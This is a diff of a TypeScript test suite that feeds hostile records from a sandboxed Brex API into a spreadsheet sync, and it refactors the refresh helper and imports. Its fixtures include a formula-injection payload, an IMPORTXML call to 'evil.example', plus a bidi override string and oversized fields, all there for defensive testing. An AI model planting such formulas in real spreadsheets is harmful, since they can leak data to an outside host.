@@ -7,15 +7,17 @@
 import type { Sandbox } from '../../dev/sandbox';
 import type { Runtime } from '../../dev/runtime';
 import type { Cell } from '../../dev/runtime/workbook';
-import { control } from '../integration/support/sync-world';
 import { openSidebar } from './support/sidebar-page';
 import {
   connectedRuntime,
+  control,
   expectedIds,
   idColumn,
   OWNER,
+  refreshUntilDone,
   smallSandbox,
-} from './support/hostile-world';
+} from '../support/world';
+import type { RefreshSummary } from '../../src/sync/refresh';
 
 const FORMULAS = [
   '=IMPORTXML("http://evil.example/x","//a")',
@@ -30,11 +32,6 @@ const UNICODE = 'שלום مرحبا \u202Eevil\u202C 👩‍👩‍👧 Ünïc�
 const LONG = 'L'.repeat(60_000);
 const CELL_CHARS = 50_000;
 
-interface Summary {
-  done: boolean;
-  dataSets: { id: string; state: string; message: string | null }[];
-}
-
 function plant(sandbox: Sandbox, list: string, id: string, fields: Record<string, unknown>) {
   control(sandbox, 'PUT', `/records/${list}/${encodeURIComponent(id)}`, fields);
 }
@@ -47,18 +44,10 @@ function allCells(runtime: Runtime): { sheet: string; cell: Cell }[] {
   );
 }
 
-async function refresh(runtime: Runtime): Promise<Summary> {
-  for (let call = 0; call < 10; call += 1) {
-    const summary = (await runtime.call('refreshNow', [], { as: OWNER })) as Summary;
-    if (summary.done) return summary;
-  }
-  throw new Error('The refresh was not done after 10 calls.');
-}
-
 describe('hostile data from Brex', () => {
   let sandbox: Sandbox;
   let runtime: Runtime;
-  let summary: Summary;
+  let summary: RefreshSummary;
 
   beforeAll(async () => {
     sandbox = await smallSandbox('hostile-data');
@@ -80,7 +69,7 @@ describe('hostile data from Brex', () => {
     plant(sandbox, 'card_transactions', t2?.id ?? '', { type: 'TIME_TRAVEL', new_field: {} });
     plant(sandbox, 'expenses', state.expenses[0]?.id ?? '', { memo: LONG, status: 'SHREDDED' });
     runtime = await connectedRuntime(sandbox);
-    summary = await refresh(runtime);
+    summary = await refreshUntilDone(runtime, { as: OWNER, maxCalls: 10 });
   });
 
   afterAll(async () => {
@@ -159,7 +148,7 @@ describe('hostile data from Brex', () => {
     control(sandbox, 'POST', '/card-transactions', { count: 150 });
     control(sandbox, 'PUT', '/repeat-cursor', { paths: ['/v1/expenses'] });
 
-    const looped = await refresh(runtime);
+    const looped = await refreshUntilDone(runtime, { as: OWNER, maxCalls: 10 });
 
     const expenses = looped.dataSets.find((d) => d.id === 'expenses');
     expect(expenses?.state).toBe('error');
@@ -167,7 +156,7 @@ describe('hostile data from Brex', () => {
     const ids = idColumn(runtime, 'Brex Expenses');
     expect(new Set(ids).size).toBe(ids.length);
     control(sandbox, 'PUT', '/repeat-cursor', { paths: [] });
-    const healed = await refresh(runtime);
+    const healed = await refreshUntilDone(runtime, { as: OWNER, maxCalls: 10 });
     expect(healed.dataSets.filter((d) => d.state !== 'ok')).toEqual([]);
     expect(idColumn(runtime, 'Brex Expenses').sort()).toEqual(
       sandbox
